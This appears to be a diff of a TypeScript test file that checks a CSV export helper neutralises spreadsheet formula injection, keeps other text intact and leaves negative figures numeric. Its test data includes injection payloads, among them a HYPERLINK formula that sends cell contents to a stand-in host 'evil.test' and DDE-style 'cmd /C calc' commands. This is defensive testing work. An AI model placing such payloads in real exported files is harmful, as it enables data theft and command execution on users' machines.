@@ -1,15 +1,38 @@
+import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
 import { csvFile, csvLine } from './csv.ts';
 
-test('A19 a cell that a spreadsheet would take for a formula is text, and a negative figure is a figure', () => {
-  expect(csvLine(['=1+1', '+254712345678', '-cmd', '@x', '\tx', '＝1'])).toBe(
-    `"'=1+1","'+254712345678","'-cmd","'@x","'\tx","'＝1"\r\n`,
-  );
-  expect(csvLine([-12, '-12.50', '-12.50-1', 0, undefined])).toBe(`"-12","-12.50","'-12.50-1","0",""\r\n`);
+const FORMULAS = [
+  '=HYPERLINK("https://evil.test?"&A1;"Open")',
+  '+254712345678',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+9)*cmd|" /C calc"!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '|calc',
+  '%0A=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+];
+const TEXTS = ['Mama "Njeri", Café', 'two\r\nlines', "an apostrophe's", ';', '', '१२३', '🎁', '1,234', 'a=b'];
+
+test('A19 a cell that a spreadsheet would run begins with an apostrophe, and stays one cell', () => {
+  for (const formula of FORMULAS) {
+    const [cells] = parse(csvLine([formula, 'next'])) as string[][];
+    expect(cells).toEqual([`'${formula}`, 'next']);
+  }
 });
 
-test('quotes, commas and line ends stay inside their cell', () => {
-  expect(csvLine(['a "b"', 'c,d', 'e\nf'])).toBe('"a ""b""","c,d","e\nf"\r\n');
+test('A19 every other text is read back as it was, quotes, commas and lines included', () => {
+  expect(parse(csvLine(TEXTS) + csvLine(TEXTS.toReversed()))).toEqual([TEXTS, TEXTS.toReversed()]);
+});
+
+test('A19 a negative figure stays a figure, so that a spreadsheet can add it up', () => {
+  expect(csvLine([-12, '-12.50', '-12.50-1', 0, undefined])).toBe(`"-12","-12.50","'-12.50-1","0",""\r\n`);
 });
 
 test('a file has its headings, then every page in turn, and is read as UTF-8', async () => {
